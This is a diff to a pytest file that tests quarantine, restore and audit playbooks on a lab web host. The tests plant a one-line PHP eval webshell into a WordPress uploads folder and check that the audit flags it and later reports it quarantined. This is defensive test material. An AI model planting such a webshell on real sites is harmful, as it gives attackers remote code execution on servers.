@@ -1,16 +1,18 @@
 """The quarantine and restore playbooks on a lab host, seen as the responder and as the compromised account.
 
 Converge quarantined site1's planted webshell and quarantined then restored all of site2; these tests
-check the result, and run one more docroot quarantine and restore to look at site2 while it is locked.
+check the result, and run one more docroot quarantine and restore to look at site2 while it is locked. Last, the
+audit before and after the quarantine of a second webshell: what it finds planted, then that it is quarantined.
 """
 
 from __future__ import annotations
 
+import base64
 import json
 import shlex
 
 import pytest
-from labtools import PROJECT_DIR, ansible_playbook_stats, changed_tasks
+from labtools import PROJECT_DIR, ansible_playbook_stats, audit_results, changed_tasks, task_name
 
 WEBSHELL = "/var/www/site1/wp-content/uploads/2024/05/cache.php"
 WEBSHELL_CONTENT = "<?php @eval(base64_decode($_POST['z'])); ?>\n"
@@ -22,6 +24,9 @@ MANIFEST_DIR = "/var/lib/hostguard/quarantine"
 EVIDENCE_DIR = "/var/lib/hostguard/evidence"
 QUARANTINE = str(PROJECT_DIR / "playbooks" / "quarantine.yml")
 RESTORE = str(PROJECT_DIR / "playbooks" / "restore.yml")
+AUDIT = str(PROJECT_DIR / "playbooks" / "audit.yml")
+BASELINE = str(PROJECT_DIR / "playbooks" / "integrity_baseline.yml")
+SITE1 = {"hostguard_integrity_sites": [{"name": "site1", "paths": ["/var/www/site1"]}]}
 SITE2_VARS = {"quarantine_hosts": "web", "restore_hosts": "web", "quarantine_scope": "docroot",
               "quarantine_docroots": ["/var/www/site2"], "restore_paths": ["/var/www/site2"]}
 
@@ -165,3 +170,86 @@ def test_bad_input_fails_before_any_change_naming_the_variable(host, variables, 
     assert named in json.dumps(run["plays"])
     assert changed_tasks(run["plays"]) == []
     assert site2_now(host) == before
+
+
+# --- the audit knows what the quarantine did -------------------------------------------------------
+
+SECOND_WEBSHELL = "/var/www/site1/wp-content/uploads/2024/05/thumb.php"
+
+
+def audit_web1():
+    """The audit of site1 (blocklists skipped): (run, web1's hostguard_audit, its lines, its fleet report entry)."""
+    run = run_playbook(AUDIT, dict(SITE1, audit_dnsbl_addresses=[]))
+    assert run["rc"] == 0, run["stats"]
+    facts, lines = audit_results(run["plays"])
+    (written,) = [result for play in run["plays"] for task in play["tasks"]
+                  if task_name(task) == "Write the fleet report on the controller" for result in task["hosts"].values()]
+    with open("%s/report.json" % written["dir"], encoding="utf-8") as stream:
+        report = json.load(stream)
+    (entry,) = [entry for entry in report["hosts"] if entry["host"] == "web1"]
+    return run, facts["web1"], lines["web1"], dict(entry, changes=report["changes"])
+
+
+def about(findings, path):
+    return [finding for finding in findings if finding["evidence"].get("path") == path]
+
+
+def state_of(host):
+    """What the audit must leave as it is: site1 entry by entry, the manifests, the integrity database, the units."""
+    return {"site1": json.loads(host.check_output("python3 %s /var/www/site1 -" % SNAPSHOT)),
+            "manifests": host.check_output("find %s -printf '%%p %%m %%u %%s %%T@\\n' | sort" % MANIFEST_DIR),
+            "database": host.check_output("sha256sum /var/lib/hostguard/integrity/site1.db"),
+            "units": host.check_output("systemctl list-units --type=service --state=running --no-legend --plain")}
+
+
+def test_the_audit_after_the_quarantine_reports_the_planted_file_quarantined_and_closed(host):
+    # site1 as it is now is the baseline: the webshell converge quarantined is part of it.
+    baseline = run_playbook(BASELINE, SITE1)
+    assert baseline["rc"] == 0, baseline["stats"]
+    encoded = base64.b64encode(WEBSHELL_CONTENT.encode()).decode()
+    planted = as_customer(host, "sh -c %s" % shlex.quote("echo %s | base64 -d > %s" % (encoded, SECOND_WEBSHELL)))
+    assert planted.rc == 0, planted.stderr
+
+    _run, first, first_lines, first_entry = audit_web1()
+    found = about(first["findings"], SECOND_WEBSHELL)
+    assert {(finding["severity"], finding["status"]) for finding in found} == {("critical", "open"), ("info", "open")}
+    assert [line for line in first_lines if line.startswith("looks planted: %s " % SECOND_WEBSHELL)], first_lines
+    assert first_entry["facets"]["integrity"] == "critical"
+    # The webshell converge quarantined is named as quarantined, its lock in force.
+    (held,) = [item for item in first["integrity"]["quarantined"] if item["path"] == WEBSHELL]
+    assert held["lock"] == "in_force" and held["evidence"].startswith(EVIDENCE_DIR + "/")
+
+    quarantined = run_playbook(QUARANTINE, {"quarantine_hosts": "web", "quarantine_docroots": ["/var/www/site1"],
+                                            "quarantine_paths": [SECOND_WEBSHELL]})
+    assert quarantined["rc"] == 0, quarantined["stats"]
+    before = state_of(host)
+
+    run, second, lines, entry = audit_web1()
+    # The audit changes nothing: no task changed, and the site, the manifests, the database and the units are as
+    # they were.
+    assert changed_tasks(run["plays"]) == []
+    assert state_of(host) == before
+
+    found = about(second["findings"], SECOND_WEBSHELL)
+    assert {(finding["severity"], finding["status"]) for finding in found} == {("critical", "closed"),
+                                                                               ("info", "closed")}
+    pattern = shlex.quote('"path": "%s"' % SECOND_WEBSHELL)
+    (manifest,) = host.check_output("grep -l %s %s/*.json" % (pattern, MANIFEST_DIR)).split()
+    for finding in found:
+        assert finding["response"]["action"] == "quarantined" and finding["response"]["record"] == manifest
+        assert json.loads(finding["response"]["undo"].split(" -e ", 1)[1].strip("'")) == {
+            "quarantine_docroots": ["/var/www/site1"], "quarantine_restore_paths": [SECOND_WEBSHELL]}
+        assert "quarantined %s (manifest %s)" % (finding["response"]["at"], manifest) in finding["summary"]
+    assert not [finding for finding in second["findings"] if finding["status"] == "open"
+                and SECOND_WEBSHELL in json.dumps(finding)]
+    assert not [line for line in lines if line.startswith("looks planted: %s " % SECOND_WEBSHELL)], lines
+    assert [line for line in lines if line.startswith("quarantined: %s " % SECOND_WEBSHELL)], lines
+    assert {item["path"]: item["lock"] for item in second["integrity"]["quarantined"]} == {
+        WEBSHELL: "in_force", SECOND_WEBSHELL: "in_force"}
+    # The fleet report ranks web1's integrity by what is still open, counts the closed apart, and says the planted
+    # file's finding was closed since the first audit.
+    assert entry["facets"]["integrity"] == "ok"
+    assert entry["summary"]["closed"] == second["summary"]["closed"] >= 3
+    closed = {change["summary"] for change in entry["changes"]["closed"] if change["host"] == "web1"}
+    assert "%s looks planted (%s)" % (SECOND_WEBSHELL, found[0]["evidence"]["rule"]) in closed
+    assert not [change for change in entry["changes"]["new"] if SECOND_WEBSHELL in change["summary"]]
